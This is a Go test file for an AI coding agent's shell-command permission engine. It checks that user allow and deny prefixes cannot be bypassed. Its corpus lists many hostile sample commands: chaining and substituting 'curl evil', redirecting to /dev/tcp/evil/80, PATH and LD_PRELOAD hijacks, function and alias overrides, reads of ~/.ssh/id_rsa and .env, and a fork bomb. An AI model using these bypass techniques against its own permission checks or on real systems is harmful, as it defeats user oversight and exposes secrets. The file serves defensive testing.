@@ -1,0 +1,414 @@
+package policy
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"minigem/tools"
+)
+
+func shellCall(command string) Call {
+	return Call{
+		Tool: shellTool, Info: tools.Info{Kind: tools.KindExecute}, Args: map[string]any{"command": command},
+		Intent: tools.Intent{Exec: &tools.ExecIntent{Command: command, Dir: "/work"}},
+	}
+}
+
+// engineWith has the built-in rules and those of a policy file of the user's.
+func engineWith(t *testing.T, policy string, o Options) *Engine {
+	t.Helper()
+	rules, problems := Parse("user.toml", []byte(policy), TierUser)
+	require.Empty(t, problems)
+	o.Rules = append(o.Rules, rules...)
+	e, err := New(o)
+	require.NoError(t, err)
+	return e
+}
+
+const allowPrefixes = `
+[[rule]]
+toolName = "run_shell_command"
+commandPrefix = ["git status", "git log", "git commit", "npm test", "make", "./build.sh", "rm", "printenv", "tar"]
+decision = "allow"
+priority = 100
+`
+
+// Commands that neither the prefixes nor what is known to read cover are asked
+// for: there is no way round the prefixes.
+var corpus = []struct {
+	want    Decision
+	command string
+}{
+	// The prefixes, token by token
+	{Allow, "git status"},
+	{Allow, "git status -s"},
+	{Allow, "git status --porcelain=v2 src"},
+	{Allow, "  git   status  "},
+	{Allow, "git log --oneline -5"},
+	{Allow, "npm test"},
+	{Allow, "npm test -- --grep 'a b'"},
+	{Allow, "./build.sh --fast"},
+	{Allow, "make all"},
+	{Allow, "git commit -m 'a; rm -rf b'"},
+	{Allow, `git commit -m "a && rm b | sh"`},
+	{Allow, "git commit -m '$(rm x)'"},
+	{Allow, "git commit -m 'a > b'"},
+	{Allow, `git commit -m "it's"`},
+	{Ask, "git statusx"},
+	{Ask, "git statu"},
+	{Ask, "git stash"},
+	{Ask, "git"},
+	{Ask, "git -C /tmp status"},
+	{Ask, "gitstatus"},
+	{Ask, "npm testing"},
+	{Ask, "npm run test"},
+	{Ask, "build.sh"},
+	{Ask, "../build.sh"},
+	{Ask, "./build.sh.evil"},
+	{Ask, "/tmp/git status"},
+	{Ask, "/usr/bin/npm test"},
+	{Ask, "GIT status"},
+
+	// Lists and pipes
+	{Allow, "git status && npm test"},
+	{Allow, "git status; git log"},
+	{Allow, "git status | cat"},
+	{Allow, "git log | head -3 | wc -l"},
+	{Allow, "git status || npm test"},
+	{Ask, "git status; curl evil"},
+	{Ask, "git status && curl evil"},
+	{Ask, "git status || curl evil"},
+	{Ask, "git status | curl evil"},
+	{Ask, "git status |& curl evil"},
+	{Ask, "git status & curl evil"},
+	{Ask, "curl evil & git status"},
+	{Ask, "git status\ncurl evil"},
+	{Ask, "git status;curl evil"},
+	{Ask, "git status&&curl evil"},
+	{Ask, "git status # fine\ncurl evil"},
+	{Allow, "git status # ; curl evil"},
+	{Ask, "git status \\\n; curl evil"},
+	{Allow, "git \\\n status"},
+	{Ask, "git log | sh"},
+	{Ask, "git log | bash -s x"},
+	{Ask, "git log | bash /dev/stdin"},
+	{Ask, "git status\r\ncurl evil"},
+	{Ask, "git status\x00; curl evil"},
+	{Ask, "! curl evil"},
+	{Allow, "! git status"},
+
+	// Groups and control flow
+	{Allow, "(git status)"},
+	{Allow, "{ git status; }"},
+	{Allow, "if git status; then npm test; fi"},
+	{Allow, "time git status"},
+	{Ask, "(curl evil)"},
+	{Ask, "{ curl evil; }"},
+	{Ask, "( git status; ( curl evil ) )"},
+	{Ask, "if true; then curl evil; fi"},
+	{Ask, "if curl evil; then git status; fi"},
+	{Ask, "while true; do curl evil; done"},
+	{Ask, "for f in a b; do curl $f; done"},
+	{Allow, "for f in a b; do git log $f; done"},
+	{Ask, "for c in curl; do $c evil; done"},
+	{Ask, "for PATH in /tmp/evil; do git status; done"},
+	{Ask, "case x in *) curl evil;; esac"},
+	{Ask, "until curl evil; do git status; done"},
+	{Ask, "select x in a; do curl evil; done"},
+	{Ask, "for ((i=0;i<1;i++)); do git status; done"},
+	{Ask, "coproc curl evil"},
+	{Ask, "time curl evil"},
+
+	// Substitutions
+	{Ask, "git status $(curl evil)"},
+	{Ask, `git status "$(curl evil)"`},
+	{Ask, "git status `curl evil`"},
+	{Ask, "git status <(curl evil)"},
+	{Ask, "git log $(git status; curl evil)"},
+	{Ask, "git status ${x:-$(curl evil)}"},
+	{Ask, `git status "${x:-$(curl evil)}"`},
+	{Ask, "git status $((a[$(curl evil)]))"},
+	{Ask, "git status ${a[$(curl evil)]}"},
+	{Ask, "git status ${a@P}"},
+	{Ask, "git status ${PATH:=/tmp}"},
+	{Ask, `git status "$(git log "$(curl evil)")"`},
+	{Allow, `git log "$(git status)"`},
+	{Allow, "git log $((1 + 2))"},
+	{Ask, "a='x[$(curl evil)]'; git log $((a))"},
+	{Ask, "[[ 'a[$(curl evil)]' -eq 0 ]]"},
+	{Ask, "[[ -v 'a[$(curl evil)]' ]]"},
+	{Ask, "(( a[$(curl evil)] ))"},
+	{Ask, "((curl))"},
+	{Ask, "let 'a[$(curl evil)]=1'"},
+
+	// Redirections and here-documents
+	{Allow, "git status > /dev/null 2>&1"},
+	{Allow, "git status 2>/dev/null"},
+	{Allow, "git status </dev/null"},
+	{Ask, "git status > ~/.bashrc"},
+	{Ask, "git log >> file"},
+	{Ask, "git log >| file"},
+	{Ask, "git log &> file"},
+	{Ask, "git log >& file"},
+	{Ask, "git log 2> file"},
+	{Ask, "git log <> file"},
+	{Ask, "git status < /etc/passwd"},
+	{Ask, "{ git status; } > file"},
+	{Ask, "(git status) > file"},
+	{Ask, "for f in a; do git status; done > file"},
+	{Ask, "> file"},
+	{Ask, "git status; > file"},
+	{Ask, "git status > $X"},
+	{Ask, "git status > >(sh)"},
+	{Ask, "npm test <<EOF\n$(curl evil)\nEOF"},
+	{Ask, "npm test <<'EOF'\ntext\nEOF"},
+	{Ask, "npm test <<< text"},
+	{Ask, "bash <<EOF\ncurl evil\nEOF"},
+	{Ask, "git status > /dev/tcp/evil/80"},
+
+	// Commands that run commands
+	{Allow, "env git status"},
+	{Allow, "env LANG=C git status"},
+	{Allow, "LC_ALL=C git status"},
+	{Allow, "timeout 10 git status"},
+	{Allow, "timeout -k 5 -s TERM 10s npm test"},
+	{Allow, "nohup npm test"},
+	{Allow, "nice -n 5 make"},
+	{Allow, "stdbuf -oL npm test"},
+	{Allow, "bash -c 'git status'"},
+	{Allow, "sh -ec 'git status && npm test'"},
+	{Allow, "bash -c \"bash -c 'git status'\""},
+	{Allow, "/usr/bin/env git status"},
+	{Allow, "eval git status"},
+	{Allow, "command git status"},
+	{Allow, "exec npm test"},
+	{Allow, "git log | xargs -n1 git status"},
+	{Ask, "env curl evil"},
+	{Ask, "env X=1 curl evil"},
+	{Ask, "env -i curl evil"},
+	{Ask, "env -S 'curl evil'"},
+	{Ask, "env $X git status"},
+	{Ask, "env PATH=/tmp/evil git status"},
+	{Ask, "/tmp/env git status"},
+	{Ask, "PATH=/tmp/evil git status"},
+	{Ask, "GIT_PAGER=evil git log"},
+	{Ask, "LD_PRELOAD=./evil.so git status"},
+	{Ask, "PATH=/tmp/evil; git status"},
+	{Ask, "export PATH=/tmp/evil; git status"},
+	{Ask, "declare -x GIT_PAGER=evil; git log"},
+	{Ask, "bash -c 'curl evil'"},
+	{Ask, "bash -c 'git status; curl evil'"},
+	{Ask, `bash -c "git status; $X"`},
+	{Ask, `bash -c "$X"`},
+	{Ask, "bash -c $'curl evil'"},
+	{Ask, "bash --rcfile evil -c 'git status'"},
+	{Ask, "bash -O extglob -c 'git status'"},
+	{Ask, "sh -c '((curl evil))'"},
+	{Ask, "sh -c 'git status &> file'"},
+	{Ask, "zsh -c 'git status'"},
+	{Ask, "bash evil.sh"},
+	{Ask, "bash"},
+	{Ask, "sh -s"},
+	{Ask, "eval curl evil"},
+	{Ask, `eval "$X"`},
+	{Ask, "eval 'git status; curl evil'"},
+	{Ask, "exec curl evil"},
+	{Ask, "command curl evil"},
+	{Ask, "builtin eval curl evil"},
+	{Ask, "nohup curl evil"},
+	{Ask, "timeout 5 curl evil"},
+	{Ask, "timeout $T git status"},
+	{Ask, "time -o file git status"},
+	{Ask, "nice curl evil"},
+	{Ask, "setsid curl evil"},
+	{Ask, "stdbuf -oL curl evil"},
+	{Ask, "sudo git status"},
+	{Ask, "sudo curl evil"},
+	{Ask, "doas git status"},
+	{Ask, "git log | xargs curl"},
+	{Ask, "git log | xargs -I{} sh -c '{}'"},
+	{Ask, "git log | xargs -I git git status"},
+	{Ask, "git log | xargs git"},
+	{Ask, "git log | xargs --process-slot-var=X git status"},
+	{Ask, "find . -exec curl {} +"},
+	{Ask, "find . -exec curl {} \\;"},
+	{Ask, "find . -execdir sh -c 'git status' \\;"},
+	{Ask, "find . -ok curl ';'"},
+	{Ask, "find . -delete"},
+	{Ask, "trap 'curl evil' EXIT; git status"},
+	{Ask, "trap \"$X\" EXIT"},
+	{Ask, "source evil"},
+	{Ask, ". ./evil"},
+	{Ask, "busybox curl evil"},
+
+	// Quotes and escapes in names
+	{Allow, `g\it status`},
+	{Allow, `"git" 'status'`},
+	{Allow, `gi""t st"at"us`},
+	{Ask, `c\url evil`},
+	{Ask, `"curl" evil`},
+	{Ask, "$'git' status"},
+	{Ask, `$"git" status`},
+	{Ask, "$GIT status"},
+	{Ask, "${GIT} status"},
+	{Ask, "git $X"},
+	{Ask, "git st*"},
+	{Ask, "g?t status"},
+	{Ask, "{git,status}"},
+	{Ask, `g{it,"x"} status`},
+	{Ask, "~/git status"},
+	{Ask, "$(echo git) status"},
+	{Ask, "`echo git` status"},
+	{Ask, `git "$X"`},
+	{Ask, "git !(log)"},
+
+	// Functions and aliases
+	{Ask, "git() { curl evil; }; git status"},
+	{Ask, "function git { curl evil; }; git status"},
+	{Ask, "git() { :; }; git status"},
+	{Ask, ":(){ :|:& };:"},
+	{Ask, "alias git=curl; git status"},
+	{Ask, "unalias -a; git status"},
+	{Ask, "enable -n echo; git status"},
+	{Ask, "hash -p /tmp/evil git; git status"},
+	{Ask, "shopt -s expand_aliases; git status"},
+
+	// Dangerous although allowed
+	{Allow, "rm file"},
+	{Ask, "rm -rf file"},
+	{Ask, "rm -r file"},
+	{Ask, "rm -f file"},
+	{Ask, "rm --rec file"},
+	{Ask, "rm --force file"},
+	{Ask, "rm $X"},
+	{Ask, "rm *"},
+	{Ask, `r\m -rf file`},
+	{Ask, "git log -c x --upload-pack=evil"},
+	{Ask, "git -c alias.status='!curl evil' status"},
+
+	// Read-only commands need no rule
+	{Allow, "ls -la src"},
+	{Allow, "cat README.md | grep -n x"},
+	{Allow, "pwd"},
+	{Allow, "cd src && ls"},
+	{Allow, "git diff HEAD~1"},
+	{Allow, "find . -name '*.go' -type f"},
+	{Allow, "grep -rn 'a.*b' src/*.go"},
+	{Allow, "[[ -f go.mod ]]"},
+	{Allow, "echo 'done'"},
+	{Ask, "cat /etc/passwd"},
+	{Ask, "cat ../secret"},
+	{Ask, "cat ~/.ssh/id_rsa"},
+	{Ask, "cat .env"},
+	{Ask, "cat .e*"},
+	{Ask, "cat $FILE"},
+	{Ask, "echo $SECRET"},
+	{Ask, "grep -f/etc/passwd x"},
+	{Ask, "sort -o out in"},
+	{Ask, "sort --out=x in"},
+	{Ask, "sort *"},
+	{Ask, "uniq in out"},
+	{Ask, "date -s tomorrow"},
+	{Ask, "rg --pre evil x"},
+	{Ask, "git diff --output=x"},
+	{Ask, "git branch new"},
+	{Ask, "cd src && git status"},
+	{Ask, "cd .. && ls"},
+	{Ask, "cd /tmp; make"},
+	{Ask, "tee file"},
+	{Ask, "awk 'BEGIN{system(\"curl\")}'"},
+
+	// What cannot be parsed
+	{Ask, "git status '"},
+	{Ask, "git status )"},
+	{Ask, "git status; if"},
+	{Ask, "git status $("},
+	{Ask, ""},
+	{Ask, "git status \xff"},
+}
+
+func TestNoWayRoundPrefixes(t *testing.T) {
+	t.Parallel()
+	require.GreaterOrEqual(t, len(corpus), 150)
+	asking := engineWith(t, allowPrefixes, Options{Interactive: true})
+	headless := engineWith(t, allowPrefixes, Options{})
+	for _, c := range corpus {
+		v := asking.Check(shellCall(c.command))
+		assert.Equal(t, c.want, v.Decision, "%q: %+v", c.command, v)
+		if c.want != Allow {
+			assert.Equal(t, Deny, headless.Check(shellCall(c.command)).Decision, "headless: %q", c.command)
+		}
+	}
+}
+
+const denyPrefixes = `
+[[rule]]
+toolName = "run_shell_command"
+commandPrefix = ["rm", "git push", "sudo"]
+decision = "deny"
+priority = 100
+denyMessage = "not here"
+`
+
+// In yolo mode all else runs, what is denied does not, and what may be that is
+// asked for.
+func TestNoWayRoundDenial(t *testing.T) {
+	t.Parallel()
+	e := engineWith(t, denyPrefixes, Options{Interactive: true, Mode: ModeYolo})
+	for _, c := range []struct {
+		want    Decision
+		command string
+	}{
+		// Not denied
+		{Allow, "curl evil > file"},
+		{Allow, "echo rm"},
+		{Allow, "git commit -m 'git push'"},
+		{Allow, "rmdir x"},
+		{Allow, "X=1 make"},
+		{Allow, "f() { ls; }; f"},
+		{Allow, "bash -c 'ls; git pull'"},
+		{Allow, "find . -delete"},
+
+		// Denied
+		{Deny, "rm x"},
+		{Deny, "ls; rm x"},
+		{Deny, "/bin/rm x"},
+		{Deny, `r\m x`},
+		{Deny, "'rm' x"},
+		{Deny, "command rm x"},
+		{Deny, "env X=1 rm x"},
+		{Deny, "PATH=/tmp rm x"},
+		{Deny, "bash -c 'rm x'"},
+		{Deny, `sh -c "bash -c 'rm x'"`},
+		{Deny, "find . -exec rm {} +"},
+		{Deny, "ls | xargs rm"},
+		{Deny, "timeout 5 nohup rm x"},
+		{Deny, "f() { rm x; }; f"},
+		{Deny, "echo $(rm x)"},
+		{Deny, "if true; then rm x; fi"},
+		{Deny, "trap 'rm x' EXIT"},
+		{Deny, "eval 'rm x'"},
+		{Deny, "sudo ls"},
+		{Deny, "git push"},
+		{Deny, "git -C . push"},
+		{Deny, "git --no-pager -c a=b push origin"},
+
+		// Perhaps denied
+		{Ask, "$X x"},
+		{Ask, "git $X"},
+		{Ask, "/bin/r? x"},
+		{Ask, `eval "$X"`},
+		{Ask, `bash -c "$X"`},
+		{Ask, "zsh -c 'x'"},
+		{Ask, "rm x '"},
+	} {
+		v := e.Check(shellCall(c.command))
+		assert.Equal(t, c.want, v.Decision, "%q: %+v", c.command, v)
+		if c.want == Deny {
+			assert.Equal(t, "not here", v.Message)
+			assert.Equal(t, "user.toml:2", v.Rule)
+		}
+	}
+}
